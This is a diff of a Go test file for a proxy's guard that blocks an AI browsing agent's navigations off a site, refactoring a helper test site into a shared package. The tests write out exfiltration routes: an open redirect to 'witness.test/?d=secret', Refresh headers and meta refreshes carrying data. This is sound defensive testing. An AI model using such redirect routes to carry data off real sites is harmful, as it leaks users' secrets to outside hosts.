@@ -17,6 +17,8 @@ import (
 	"sync/atomic"
 	"testing"
 	"time"
+
+	"github.com/remixproxy/remixproxy/proxy/internal/testsite"
 )
 
 // guardPipeline is the part of the proxy's pipeline the agent's navigation guard lives in: its
@@ -91,50 +93,6 @@ func (p *guardPipeline) do(method, rawURL string, payload io.Reader, hdr ...stri
 	return resp, body
 }
 
-// navHeaders are the headers Chromium sends with a navigation started in a page of from
-// (fetchSite as it computes it); referer "" leaves the Referer out.
-func navHeaders(fetchSite, referer string) []string {
-	h := []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Site", fetchSite, "Upgrade-Insecure-Requests", "1"}
-	if referer != "" {
-		h = append(h, "Referer", referer)
-	}
-	return h
-}
-
-// navSite is a site with an open redirect, a same-site redirect into it, a page that refreshes
-// off the site, and a page; it records what it answered.
-type navSite struct {
-	mu   sync.Mutex
-	seen []string
-}
-
-func (s *navSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
-	s.mu.Lock()
-	s.seen = append(s.seen, r.Method+" "+r.Host+r.URL.RequestURI())
-	s.mu.Unlock()
-	switch r.URL.Path {
-	case "/out":
-		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
-	case "/hop":
-		http.Redirect(w, r, "https://www.example.com/out?to="+url.QueryEscape(r.URL.Query().Get("to")), http.StatusMovedPermanently)
-	case "/refresh":
-		w.Header().Set("Refresh", "0; url=https://witness.test/r")
-		w.Header().Set("Content-Type", "text/html; charset=utf-8")
-		io.WriteString(w, `<!doctype html><title>R</title>`)
-	case "/post307":
-		http.Redirect(w, r, "/account2", http.StatusTemporaryRedirect)
-	default:
-		w.Header().Set("Content-Type", "text/html; charset=utf-8")
-		io.WriteString(w, `<!doctype html><title>Shop</title><p>shop</p>`)
-	}
-}
-
-func (s *navSite) requests() string {
-	s.mu.Lock()
-	defer s.mu.Unlock()
-	return strings.Join(s.seen, "\n")
-}
-
 // TestAgentNavigationGuard: through the guard's two sides in a pipeline as the proxy's (its whole
 // wiring is tested in proxy/chat_navguard_test.go and e2e), with an expectation armed as the chat arms
 // it before an action: the site's open redirect off the site is replaced by the refusal page, and
@@ -142,7 +100,7 @@ func (s *navSite) requests() string {
 // (answered without going upstream); a redirect within the site goes through. The person's own
 // navigation (Sec-Fetch-Site: none) and any navigation once the window is over are left alone.
 func TestAgentNavigationGuard(t *testing.T) {
-	site := &navSite{}
+	site := &testsite.NavSite{}
 	cf := newGuardPipeline(t, site)
 	g := &cf.h.nav
 	var mu sync.Mutex
@@ -158,7 +116,7 @@ func TestAgentNavigationGuard(t *testing.T) {
 	exfil := url.QueryEscape("https://witness.test/?d=secret")
 
 	x := arm()
-	resp, body := cf.get("https://example.com/out?to="+exfil, navHeaders("same-origin", pageURL)...)
+	resp, body := cf.get("https://example.com/out?to="+exfil, testsite.NavHeaders("same-origin", pageURL)...)
 	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("Location") != "" || !strings.Contains(string(body), "remixproxy stopped the agent&#39;s navigation") ||
 		!strings.Contains(string(body), "would have left example.com") || strings.Contains(string(body), "secret") {
 		t.Errorf("open redirect: %d %q\n%s", resp.StatusCode, resp.Header.Get("Location"), body)
@@ -170,12 +128,12 @@ func TestAgentNavigationGuard(t *testing.T) {
 
 	// A redirect within the site is followed; the hop it leads to is the agent's too.
 	x = arm()
-	resp, _ = cf.get("https://example.com/hop?to="+exfil, navHeaders("same-origin", pageURL)...)
+	resp, _ = cf.get("https://example.com/hop?to="+exfil, testsite.NavHeaders("same-origin", pageURL)...)
 	if resp.StatusCode != http.StatusMovedPermanently || !strings.HasPrefix(resp.Header.Get("Location"), "https://www.example.com/out?") {
 		t.Fatalf("same-site redirect: %d %q", resp.StatusCode, resp.Header.Get("Location"))
 	}
 	x.settle()
-	resp, _ = cf.get(resp.Header.Get("Location"), navHeaders("same-site", pageURL)...)
+	resp, _ = cf.get(resp.Header.Get("Location"), testsite.NavHeaders("same-site", pageURL)...)
 	if resp.StatusCode != http.StatusForbidden {
 		t.Errorf("the hop's own redirect off the site: %d %q", resp.StatusCode, resp.Header.Get("Location"))
 	}
@@ -185,10 +143,10 @@ func TestAgentNavigationGuard(t *testing.T) {
 
 	// A Refresh header off the site, and a first hop off the site.
 	x = arm()
-	if resp, _ := cf.get("https://example.com/refresh", navHeaders("same-origin", pageURL)...); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Refresh") != "" {
+	if resp, _ := cf.get("https://example.com/refresh", testsite.NavHeaders("same-origin", pageURL)...); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Refresh") != "" {
 		t.Errorf("Refresh off the site: %d %q", resp.StatusCode, resp.Header.Get("Refresh"))
 	}
-	if resp, body := cf.get("https://witness.test/?d=secret", navHeaders("cross-site", pageURL)...); resp.StatusCode != http.StatusForbidden ||
+	if resp, body := cf.get("https://witness.test/?d=secret", testsite.NavHeaders("cross-site", pageURL)...); resp.StatusCode != http.StatusForbidden ||
 		!strings.Contains(string(body), "would have left the site example.com for https://witness.test/?…") {
 		t.Errorf("first hop off the site: %d\n%s", resp.StatusCode, body)
 	}
@@ -208,10 +166,10 @@ func TestAgentNavigationGuard(t *testing.T) {
 	x.settle()
 
 	// Not the agent's: the address bar, and another site's page.
-	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("none", "")...); resp.StatusCode != http.StatusFound {
+	if resp, _ := cf.get("https://example.com/out?to="+exfil, testsite.NavHeaders("none", "")...); resp.StatusCode != http.StatusFound {
 		t.Errorf("the person's own navigation through the open redirect: %d, want 302", resp.StatusCode)
 	}
-	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("cross-site", "https://news.test/")...); resp.StatusCode != http.StatusFound {
+	if resp, _ := cf.get("https://example.com/out?to="+exfil, testsite.NavHeaders("cross-site", "https://news.test/")...); resp.StatusCode != http.StatusFound {
 		t.Errorf("another site's navigation: %d, want 302", resp.StatusCode)
 	}
 	// A subresource is never a navigation.
@@ -226,7 +184,7 @@ func TestAgentNavigationGuard(t *testing.T) {
 		e.pending = 0
 	}
 	g.mu.Unlock()
-	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("same-origin", pageURL)...); resp.StatusCode != http.StatusFound {
+	if resp, _ := cf.get("https://example.com/out?to="+exfil, testsite.NavHeaders("same-origin", pageURL)...); resp.StatusCode != http.StatusFound {
 		t.Errorf("after the window: %d, want 302", resp.StatusCode)
 	}
 	if n := g.live.Load(); n != 0 {
@@ -255,7 +213,7 @@ func (c *leaseClock) skip(d time.Duration) { c.off.Add(int64(d)) }
 // page session goes), the lease ends; a document whose page agent never connects keeps it for
 // navDocLoading.
 func TestNavDocLease(t *testing.T) {
-	site := &navSite{}
+	site := &testsite.NavSite{}
 	cf := newGuardPipeline(t, site)
 	g := &cf.h.nav
 	clk := &leaseClock{}
@@ -272,7 +230,7 @@ func TestNavDocLease(t *testing.T) {
 			told = append(told, why)
 			mu.Unlock()
 		})
-		if resp, _ := cf.get(to, navHeaders("same-origin", page)...); resp.StatusCode != http.StatusOK {
+		if resp, _ := cf.get(to, testsite.NavHeaders("same-origin", page)...); resp.StatusCode != http.StatusOK {
 			t.Fatalf("the agent's navigate to %s: %d", to, resp.StatusCode)
 		}
 		x.settle()
@@ -295,12 +253,12 @@ func TestNavDocLease(t *testing.T) {
 		hdr  []string
 		want int
 	}{
-		{"meta refresh with data in the address", navHeaders("cross-site", page), http.StatusForbidden},
-		{"a timer's location, no-referrer policy", navHeaders("cross-site", ""), http.StatusForbidden},
+		{"meta refresh with data in the address", testsite.NavHeaders("cross-site", page), http.StatusForbidden},
+		{"a timer's location, no-referrer policy", testsite.NavHeaders("cross-site", ""), http.StatusForbidden},
 		{"plain http: no Fetch metadata", []string{"Upgrade-Insecure-Requests", "1", "Referer", page}, http.StatusForbidden},
-		{"the person's own click", user(navHeaders("cross-site", page)), passed},
-		{"the address bar", navHeaders("none", ""), passed},
-		{"another site's tab", navHeaders("cross-site", "https://news.test/"), passed},
+		{"the person's own click", user(testsite.NavHeaders("cross-site", page)), passed},
+		{"the address bar", testsite.NavHeaders("none", ""), passed},
+		{"another site's tab", testsite.NavHeaders("cross-site", "https://news.test/"), passed},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			resp, body := cf.get("https://witness.test/meta?d=4711", tt.hdr...)
@@ -318,17 +276,17 @@ func TestNavDocLease(t *testing.T) {
 
 	// The person typed in the panel a moment ago: the page has their activation from it.
 	g.panelActive()
-	if resp, _ := cf.get("https://witness.test/typed", user(navHeaders("cross-site", page))...); resp.StatusCode != http.StatusForbidden {
+	if resp, _ := cf.get("https://witness.test/typed", user(testsite.NavHeaders("cross-site", page))...); resp.StatusCode != http.StatusForbidden {
 		t.Errorf("a navigation with the panel's activation: %d, want 403", resp.StatusCode)
 	}
 	clk.skip(panelTaint)
-	if resp, _ := cf.get("https://witness.test/clicked", user(navHeaders("cross-site", page))...); resp.StatusCode != passed {
+	if resp, _ := cf.get("https://witness.test/clicked", user(testsite.NavHeaders("cross-site", page))...); resp.StatusCode != passed {
 		t.Errorf("the person's click after the panel's activation ran out: %d, want 502 (let go)", resp.StatusCode)
 	}
 
 	// The tab left the document (the person's own navigation): the lease ends.
 	alive1.Store(false)
-	if resp, _ := cf.get("https://witness.test/later", navHeaders("cross-site", page)...); resp.StatusCode != passed {
+	if resp, _ := cf.get("https://witness.test/later", testsite.NavHeaders("cross-site", page)...); resp.StatusCode != passed {
 		t.Errorf("after the agent's document went: %d, want 502 (let go)", resp.StatusCode)
 	}
 	if n := g.live.Load(); n != 0 {
@@ -340,27 +298,27 @@ func TestNavDocLease(t *testing.T) {
 	navigate(leaving)
 	alive2.Store(true)
 	g.docOpened("s2", leaving, alive2.Load)
-	if resp, _ := cf.get("https://example.com/next", navHeaders("same-origin", leaving)...); resp.StatusCode != http.StatusOK {
+	if resp, _ := cf.get("https://example.com/next", testsite.NavHeaders("same-origin", leaving)...); resp.StatusCode != http.StatusOK {
 		t.Fatalf("the document's own navigation within the site: %d", resp.StatusCode)
 	}
 	alive2.Store(false)
 	alive3.Store(true)
 	g.docOpened("s3", "https://example.com/next", alive3.Load)
-	if resp, _ := cf.get("https://witness.test/chain", navHeaders("cross-site", "https://example.com/next")...); resp.StatusCode != http.StatusForbidden {
+	if resp, _ := cf.get("https://witness.test/chain", testsite.NavHeaders("cross-site", "https://example.com/next")...); resp.StatusCode != http.StatusForbidden {
 		t.Errorf("the next page's forward off the site: %d, want 403", resp.StatusCode)
 	}
-	if resp, _ := cf.get("https://example.com/refresh", navHeaders("same-origin", "https://example.com/next")...); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Refresh") != "" {
+	if resp, _ := cf.get("https://example.com/refresh", testsite.NavHeaders("same-origin", "https://example.com/next")...); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Refresh") != "" {
 		t.Errorf("a Refresh header off the site: %d %q", resp.StatusCode, resp.Header.Get("Refresh"))
 	}
 	alive3.Store(false)
 
 	// A document whose page agent never connects keeps the lease for navDocLoading.
 	navigate("https://example.com/plain")
-	if resp, _ := cf.get("https://witness.test/unconnected", navHeaders("cross-site", page)...); resp.StatusCode != http.StatusForbidden {
+	if resp, _ := cf.get("https://witness.test/unconnected", testsite.NavHeaders("cross-site", page)...); resp.StatusCode != http.StatusForbidden {
 		t.Errorf("an unconnected document's forward: %d, want 403", resp.StatusCode)
 	}
 	clk.skip(navDocLoading)
-	if resp, _ := cf.get("https://witness.test/unconnected2", navHeaders("cross-site", page)...); resp.StatusCode != passed {
+	if resp, _ := cf.get("https://witness.test/unconnected2", testsite.NavHeaders("cross-site", page)...); resp.StatusCode != passed {
 		t.Errorf("after navDocLoading: %d, want 502 (let go)", resp.StatusCode)
 	}
 	mu.Lock()
